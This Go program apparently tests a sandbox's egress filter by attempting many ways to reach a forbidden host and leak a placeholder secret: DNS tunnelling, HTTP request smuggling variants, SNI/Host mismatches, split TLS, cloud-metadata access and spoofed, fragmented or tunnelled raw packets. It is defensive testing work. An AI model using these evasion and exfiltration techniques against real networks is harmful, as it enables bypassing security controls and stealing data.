package main

import (
	"bufio"
	"bytes"
	"context"
	"crypto/tls"
	"encoding/base64"
	"encoding/binary"
	"errors"
	"fmt"
	"io"
	"log"
	"net"
	"net/http"
	"os"
	"strings"
	"syscall"
	"time"
)

const (
	gateway  = "192.168.127.1"
	metadata = "169.254.169.254"
	limit    = 5 * time.Second // of an attempt; what is denied is denied at once
	etherIP  = 0x0800
)

// attack tries all, of which nothing may arrive at forbidden, and at allowed only what is for allowed.test.
func attack(allowed, forbidden string) {
	report("resolve allowed.test", resolve("allowed.test", gateway+":53", "udp", 1))
	streams(allowed, forbidden)
	names(allowed, forbidden)
	hosts(allowed, forbidden)
	smuggle(allowed)
	http2s(allowed)
	packets(allowed, forbidden)
	report("still allowed", request(allowed, "GET /still HTTP/1.1\r\nHost: allowed.test\r\nConnection: close\r\n\r\n"))
}

func report(name, result string) { fmt.Printf("%s: %s\n", name, result) }

// kind is how an attempt ended, in a word.
func kind(err error) string {
	var timeout net.Error
	switch {
	case err == nil:
		return "open"
	case errors.Is(err, syscall.ECONNREFUSED):
		return "refused"
	case errors.Is(err, syscall.ECONNRESET), errors.Is(err, io.EOF):
		return "cut"
	case errors.As(err, &timeout) && timeout.Timeout():
		return "timeout"
	}
	return strings.ReplaceAll(err.Error(), "\n", " ")
}

func dial(network, address string) string {
	conn, err := net.DialTimeout(network, address, limit)
	if err != nil {
		return kind(err)
	}
	defer conn.Close()
	return "open"
}

// mapped connects by an IPv6 socket, which package net would not do.
func mapped(address string, port int) string {
	fd, err := syscall.Socket(syscall.AF_INET6, syscall.SOCK_STREAM, 0)
	if err != nil {
		return kind(err)
	}
	defer syscall.Close(fd)
	return kind(syscall.Connect(fd, &syscall.SockaddrInet6{Port: port, Addr: [16]byte(net.ParseIP(address).To16())}))
}

// datagram sends one and waits for its answer.
func datagram(address string) string {
	conn, err := net.Dial("udp", address)
	if err != nil {
		return kind(err)
	}
	defer conn.Close()
	conn.SetDeadline(time.Now().Add(limit))
	conn.Write([]byte("datagram"))
	_, err = conn.Read(make([]byte, 100))
	return kind(err)
}

func streams(allowed, forbidden string) {
	for _, port := range []string{"80", "443", "9"} {
		report("tcp forbidden "+port, dial("tcp4", forbidden+":"+port))
	}
	report("tcp mapped", mapped(forbidden, 80))
	report("tcp other port", dial("tcp4", allowed+":9"))
	report("tcp metadata", dial("tcp4", metadata+":80"))
	report("tcp gateway", dial("tcp4", gateway+":80"))
	report("tcp zero", dial("tcp4", "0.1.2.3:80"))
	report("udp forbidden", datagram(forbidden+":7"))
	report("udp allowed", datagram(allowed+":7"))
	report("udp quic", datagram(allowed+":443"))
	report("udp metadata", datagram(metadata+":7"))
}

// resolve asks a server itself: the code of its reply and how many answers it has.
func resolve(name, server, network string, kindOfRecord uint16) string {
	conn, err := net.DialTimeout(network, server, limit)
	if err != nil {
		return kind(err)
	}
	defer conn.Close()
	conn.SetDeadline(time.Now().Add(limit))
	question := []byte{0, 7, 1, 0, 0, 1, 0, 0, 0, 0, 0, 0}
	for _, label := range strings.Split(name, ".") {
		question = append(append(question, byte(len(label))), label...)
	}
	question = binary.BigEndian.AppendUint16(append(question, 0), kindOfRecord)
	question = append(question, 0, 1)
	if network == "tcp" {
		question = append(binary.BigEndian.AppendUint16(nil, uint16(len(question))), question...)
	}
	conn.Write(question)
	reply := make([]byte, 4096)
	n, err := conn.Read(reply)
	if network == "tcp" && err == nil && n == 2 {
		n, err = conn.Read(reply[2:])
		n += 2
	}
	if err != nil {
		return kind(err)
	}
	if network == "tcp" {
		reply, n = reply[2:], n-2
	}
	if n < 12 {
		return "short"
	}
	return fmt.Sprintf("code %d, %d answers", reply[3]&15, binary.BigEndian.Uint16(reply[6:]))
}

func names(allowed, forbidden string) {
	const txt, aaaa, mx, any = 16, 28, 15, 255
	ask := gateway + ":53"
	report("dns other", resolve("other.test", ask, "udp", 1))
	report("dns other tcp", resolve("other.test", ask, "tcp", 1))
	report("dns tunnel", resolve("c2VjcmV0.other.test", ask, "udp", 1))
	report("dns tunnel below", resolve("c2VjcmV0.allowed.test", ask, "udp", 1))
	report("dns txt", resolve("allowed.test", ask, "udp", txt))
	report("dns mx", resolve("allowed.test", ask, "udp", mx))
	report("dns any", resolve("allowed.test", ask, "udp", any))
	report("dns aaaa", resolve("allowed.test", ask, "udp", aaaa))
	report("dns own resolver", resolve("other.test", forbidden+":53", "udp", 1))
	report("dns own resolver tcp", resolve("other.test", forbidden+":53", "tcp", 1))
	// Allowed names that lead where nobody may go.
	report("dns metadata", resolve("metadata.test", ask, "udp", 1))
	report("dns loopback", resolve("loopback.test", ask, "udp", 1))
	report("dns inside", resolve("inside.test", ask, "udp", 1))
	report("rebound metadata", dial("tcp4", metadata+":80"))
	at := net.ParseIP(forbidden).To4()
	for name, number := range map[string]string{
		"decimal": fmt.Sprint(binary.BigEndian.Uint32(at)), "hexadecimal": fmt.Sprintf("0x%x", []byte(at)),
		"octal": fmt.Sprintf("%#o.%#o.%#o.%#o", at[0], at[1], at[2], at[3]),
		"short": fmt.Sprintf("%d.%d.%d", at[0], at[1], binary.BigEndian.Uint16(at[2:])),
	} {
		report("dns number "+name, resolve(number, ask, "udp", 1))
	}
	report("dns over https", secure(forbidden, "dns.test", "GET /dns-query?dns=AAABAAABAAAAAAAABW90aGVyBHRlc3QAAAEAAQ HTTP/1.1\r\nHost: dns.test\r\n\r\n"))
}

// secure makes a request by TLS that asks for a name: the status, or how the connection ended.
func secure(address, name, request string) string {
	conn, err := net.DialTimeout("tcp4", address+":443", limit)
	if err != nil {
		return kind(err)
	}
	defer conn.Close()
	return shake(conn, name, request)
}

func shake(conn net.Conn, name, request string) string {
	conn.SetDeadline(time.Now().Add(limit))
	secured := tls.Client(conn, &tls.Config{ServerName: name, InsecureSkipVerify: true})
	if err := secured.Handshake(); err != nil {
		return kind(err)
	}
	return exchange(secured, request)
}

// pieces writes every few bytes by themselves, so that no segment has the whole name.
type pieces struct{ net.Conn }

func (p pieces) Write(b []byte) (int, error) {
	for at := 0; at < len(b); at += 20 {
		if _, err := p.Conn.Write(b[at:min(at+20, len(b))]); err != nil {
			return at, err
		}
	}
	return len(b), nil
}

func inPieces(address, name, request string) string {
	conn, err := net.DialTimeout("tcp4", address+":443", limit)
	if err != nil {
		return kind(err)
	}
	defer conn.Close()
	conn.(*net.TCPConn).SetNoDelay(true)
	return shake(pieces{conn}, name, request)
}

func request(address, text string) string {
	conn, err := net.DialTimeout("tcp4", address+":80", limit)
	if err != nil {
		return kind(err)
	}
	defer conn.Close()
	return exchange(conn, text)
}

// exchange sends a text as it is: the status of each answer until the connection is closed or silent.
func exchange(conn net.Conn, text string) string {
	conn.SetDeadline(time.Now().Add(limit))
	io.WriteString(conn, text)
	in := bufio.NewReader(conn)
	var statuses []string
	for {
		conn.SetReadDeadline(time.Now().Add(2 * time.Second))
		response, err := http.ReadResponse(in, nil)
		if err != nil {
			if len(statuses) == 0 {
				return kind(err)
			}
			return strings.Join(statuses, " ")
		}
		io.Copy(io.Discard, response.Body)
		statuses = append(statuses, fmt.Sprint(response.StatusCode))
		if response.Close {
			return strings.Join(statuses, " ")
		}
	}
}

const secret = "<BOXLITE_SECRET:key>"

func hosts(allowed, forbidden string) {
	end := "\r\nX-Key: " + secret + "\r\nConnection: close\r\n\r\n"
	report("http right", request(allowed, "GET /right HTTP/1.1\r\nHost: allowed.test"+end))
	report("https right", secure(allowed, "allowed.test", "GET /right HTTP/1.1\r\nHost: allowed.test"+end))
	report("http host other", request(allowed, "GET /wrong HTTP/1.1\r\nHost: other.test"+end))
	report("http host address", request(allowed, "GET /wrong HTTP/1.1\r\nHost: "+forbidden+end))
	report("http no host", request(allowed, "GET /wrong HTTP/1.1"+end))
	report("http two hosts", request(allowed, "GET /wrong HTTP/1.1\r\nHost: allowed.test\r\nHost: other.test"+end))
	report("http absolute", request(allowed, "GET http://other.test/wrong HTTP/1.1\r\nHost: allowed.test"+end))
	report("http connect", request(allowed, "CONNECT other.test:80 HTTP/1.1\r\nHost: other.test:80\r\n\r\nGET /wrong HTTP/1.1\r\nHost: other.test"+end))
	report("http version 0.9", request(allowed, "GET /wrong\r\n"))
	report("http host case", request(allowed, "GET /right HTTP/1.1\r\nHost: ALLOWED.TEST"+end))
	report("http host with user", request(allowed, "GET /wrong HTTP/1.1\r\nHost: allowed.test@other.test"+end))
	report("https name other", secure(allowed, "other.test", "GET /wrong HTTP/1.1\r\nHost: allowed.test"+end))
	report("https pieces right", inPieces(allowed, "allowed.test", "GET /right HTTP/1.1\r\nHost: allowed.test"+end))
	report("https pieces other", inPieces(allowed, "other.test", "GET /wrong HTTP/1.1\r\nHost: allowed.test"+end))
	report("https no name", secure(allowed, "", "GET /wrong HTTP/1.1\r\nHost: allowed.test"+end))
	report("https host other", secure(allowed, "allowed.test", "GET /wrong HTTP/1.1\r\nHost: other.test"+end))
	report("https allowed name elsewhere", secure(forbidden, "allowed.test", "GET /wrong HTTP/1.1\r\nHost: allowed.test"+end))
	report("redirect", redirect(allowed))
	report("chunks", request(allowed, "POST /chunks HTTP/1.1\r\nHost: allowed.test\r\nTransfer-Encoding: chunked\r\nConnection: close\r\n\r\n"+
		"5\r\na<BOX\r\n9\r\nLITE_SECR\r\n8\r\nET:key>b\r\n0\r\n\r\n"))
	basic := base64.StdEncoding.EncodeToString([]byte("user:" + secret))
	report("basic", request(allowed, "GET /basic HTTP/1.1\r\nHost: allowed.test\r\nAuthorization: Basic "+basic+"\r\nConnection: close\r\n\r\n"))
}

// redirect follows one to another host, as a client does.
func redirect(allowed string) string {
	client := &http.Client{Timeout: 2 * limit, Transport: &http.Transport{
		DialContext: func(ctx context.Context, network, address string) (net.Conn, error) {
			host, port, _ := net.SplitHostPort(address)
			if host == "allowed.test" {
				return net.DialTimeout("tcp4", allowed+":"+port, limit)
			}
			if result := resolve(host, gateway+":53", "udp", 1); result != "code 0, 1 answers" {
				return nil, errors.New(result)
			}
			return nil, errors.New("resolved")
		},
	}}
	r, _ := http.NewRequest("POST", "http://allowed.test/redirect", strings.NewReader("k="+secret))
	r.Header.Set("X-Key", secret)
	response, err := client.Do(r)
	if err != nil {
		var last error = err
		for errors.Unwrap(last) != nil {
			last = errors.Unwrap(last)
		}
		return last.Error()
	}
	response.Body.Close()
	return response.Status
}

// smuggle sends what one reader takes for one request and another for two.
func smuggle(allowed string) {
	const hidden = "GET /smuggled HTTP/1.1\r\nHost: other.test\r\nX-Key: " + secret + "\r\n\r\n"
	post := "POST /outer HTTP/1.1\r\nHost: allowed.test\r\n"
	length := fmt.Sprintf("Content-Length: %d\r\n", len("0\r\n\r\n")+len(hidden))
	for name, text := range map[string]string{
		"cl.te":           post + length + "Transfer-Encoding: chunked\r\n\r\n0\r\n\r\n" + hidden,
		"te.cl":           post + "Transfer-Encoding: chunked\r\nContent-Length: 4\r\n\r\n" + fmt.Sprintf("%x\r\n%s\r\n0\r\n\r\n", len(hidden), hidden),
		"two lengths":     post + "Content-Length: 0\r\n" + length + "\r\n0\r\n\r\n" + hidden,
		"te blank":        post + length + "Transfer-Encoding : chunked\r\n\r\n0\r\n\r\n" + hidden,
		"te twice":        post + length + "Transfer-Encoding: chunked\r\nTransfer-Encoding: identity\r\n\r\n0\r\n\r\n" + hidden,
		"te odd":          post + length + "Transfer-Encoding: xchunked\r\n\r\n0\r\n\r\n" + hidden,
		"folded":          post + length + "Transfer-Encoding:\r\n chunked\r\n\r\n0\r\n\r\n" + hidden,
		"folded host":     "GET /outer HTTP/1.1\r\nHost:\r\n other.test\r\nHost: allowed.test\r\n\r\n",
		"folded secret":   "GET /outer HTTP/1.1\r\nHost: allowed.test\r\nX-Key: <BOXLITE_SEC\r\n RET:key>\r\nConnection: close\r\n\r\n",
		"bare lf":         "GET /outer HTTP/1.1\nHost: allowed.test\nX: y\n\n" + hidden,
		"bare cr":         "GET /outer HTTP/1.1\r\nHost: allowed.test\rX-Other: other.test\r\n\r\n",
		"nul":             "GET /outer HTTP/1.1\r\nHost: allowed.test\x00.other.test\r\n\r\n",
		"chunk extension": post + "Transfer-Encoding: chunked\r\n\r\n0;\r\n\r\n" + hidden,
		"negative length": post + "Content-Length: -5\r\n\r\n" + hidden,
		"plus length":     post + "Content-Length: +0\r\n\r\n" + hidden,
		"get with body":   "GET /outer HTTP/1.1\r\nHost: allowed.test\r\n" + fmt.Sprintf("Content-Length: %d\r\n\r\n", len(hidden)) + hidden,
		"second request":  "GET /outer HTTP/1.1\r\nHost: allowed.test\r\n\r\n" + hidden,
		"upgrade":         "GET /outer HTTP/1.1\r\nHost: allowed.test\r\nUpgrade: h2c\r\nConnection: Upgrade, HTTP2-Settings\r\nHTTP2-Settings: AAMAAABkAARAAAAAAAIAAAAA\r\n\r\n" + hidden,
	} {
		report("smuggle "+name, request(allowed, text))
	}
}

// packets puts frames on the card that no program's socket would make.
func packets(allowed, forbidden string) {
	card, err := net.InterfaceByName("eth0")
	if err != nil {
		log.Fatal(err)
	}
	fd, err := syscall.Socket(syscall.AF_PACKET, syscall.SOCK_RAW, 0)
	if err != nil {
		report("raw", err.Error())
		return
	}
	defer syscall.Close(fd)
	to := &syscall.SockaddrLinklayer{Ifindex: card.Index, Halen: 6, Protocol: 0x0008}
	send := func(source string, frame []byte) {
		copy(frame[6:], card.HardwareAddr)
		if source != "" {
			copy(frame[6:], source)
		}
		if err := syscall.Sendto(fd, frame, 0, to); err != nil {
			report("raw", err.Error())
		}
	}
	own, payload := "192.168.127.2", []byte("raw")
	udp := func(from, to string, port uint16, data []byte) []byte {
		return ethernet(ip(from, to, syscall.IPPROTO_UDP, 0, nil, udpHeader(port, data)))
	}
	send("", udp(own, forbidden, 7, payload))
	for _, from := range []string{"192.168.127.3", allowed, "127.0.0.1", gateway, "0.0.0.0", "255.255.255.255"} {
		send("", udp(from, forbidden, 7, payload))
		send("", ethernet(ip(from, forbidden, syscall.IPPROTO_TCP, 0, nil, synHeader(80))))
	}
	send("\x02\x00\x00\x00\x00\x01", udp(own, forbidden, 7, payload))
	// In two fragments; the second of which says another port, and overlaps.
	whole := udpHeader(7, bytes.Repeat([]byte("f"), 64))
	send("", ethernet(ip(own, forbidden, syscall.IPPROTO_UDP, 0x2000, nil, whole[:32])))
	send("", ethernet(ip(own, forbidden, syscall.IPPROTO_UDP, 4, nil, whole[32:])))
	other := udpHeader(8, bytes.Repeat([]byte("o"), 64))
	send("", ethernet(ip(own, allowed, syscall.IPPROTO_UDP, 0x2000, nil, whole[:32])))
	send("", ethernet(ip(own, allowed, syscall.IPPROTO_UDP, 0x2000, nil, other[:40])))
	send("", ethernet(ip(own, allowed, syscall.IPPROTO_UDP, 5, nil, other[40:])))
	// By way of an allowed host (source routes), through tunnels, behind a VLAN tag.
	for _, option := range []byte{0x83, 0x89} {
		route := append([]byte{option, 7, 4}, net.ParseIP(forbidden).To4()...)
		send("", ethernet(ip(own, allowed, syscall.IPPROTO_UDP, 0, append(route, 0), udpHeader(7, payload))))
	}
	inner := ip(own, forbidden, syscall.IPPROTO_UDP, 0, nil, udpHeader(7, payload))
	send("", ethernet(ip(own, allowed, syscall.IPPROTO_IPIP, 0, nil, inner)))
	send("", ethernet(ip(own, allowed, syscall.IPPROTO_GRE, 0, nil, append([]byte{0, 0, 8, 0}, inner...))))
	tagged := ethernet(inner)
	send("", append(append(append([]byte(nil), tagged[:12]...), 0x81, 0, 0, 1), tagged[12:]...))
	// IPv6, whole and mapped.
	six := make([]byte, 14+40+8)
	copy(six, "\x5a\x94\xef\xe4\x0c\xdd")
	six[12], six[13], six[14], six[19], six[20], six[21] = 0x86, 0xdd, 0x60, 8, syscall.IPPROTO_UDP, 64
	copy(six[14+24:], net.ParseIP(forbidden).To16())
	binary.BigEndian.PutUint16(six[14+42:], 7)
	send("", six)
	// Headers that lie about their length.
	for _, first := range []byte{0x40, 0x44, 0x4f, 0x55} {
		lie := udp(own, forbidden, 7, payload)
		lie[14] = first
		send("", lie)
	}
	long := udp(own, forbidden, 7, payload)
	binary.BigEndian.PutUint16(long[16:], 65535)
	send("", long)
	report("raw", "sent")
}

func ethernet(packet []byte) []byte {
	frame := append([]byte("\x5a\x94\xef\xe4\x0c\xdd\x00\x00\x00\x00\x00\x00"), etherIP>>8, etherIP&0xff)
	return append(frame, packet...)
}

func ip(from, to string, protocol byte, fragment uint16, options, content []byte) []byte {
	b := make([]byte, 20, 20+len(options)+len(content))
	b[0] = byte(0x40 | (20+len(options))/4)
	binary.BigEndian.PutUint16(b[2:], uint16(20+len(options)+len(content)))
	binary.BigEndian.PutUint16(b[4:], uint16(os.Getpid()))
	binary.BigEndian.PutUint16(b[6:], fragment)
	b[8], b[9] = 64, protocol
	copy(b[12:], net.ParseIP(from).To4())
	copy(b[16:], net.ParseIP(to).To4())
	b = append(b, options...)
	sum := uint32(0)
	for i := 0; i < len(b); i += 2 {
		sum += uint32(binary.BigEndian.Uint16(b[i:]))
	}
	for sum > 0xffff {
		sum = sum>>16 + sum&0xffff
	}
	binary.BigEndian.PutUint16(b[10:], ^uint16(sum))
	return append(b, content...)
}

func udpHeader(port uint16, data []byte) []byte {
	b := make([]byte, 8)
	binary.BigEndian.PutUint16(b, 4242)
	binary.BigEndian.PutUint16(b[2:], port)
	binary.BigEndian.PutUint16(b[4:], uint16(8+len(data)))
	return append(b, data...) // no checksum: allowed with IPv4
}

func synHeader(port uint16) []byte {
	b := make([]byte, 20)
	binary.BigEndian.PutUint16(b, 4242)
	binary.BigEndian.PutUint16(b[2:], port)
	b[12], b[13] = 5<<4, 2
	binary.BigEndian.PutUint16(b[14:], 1000)
	return b
}
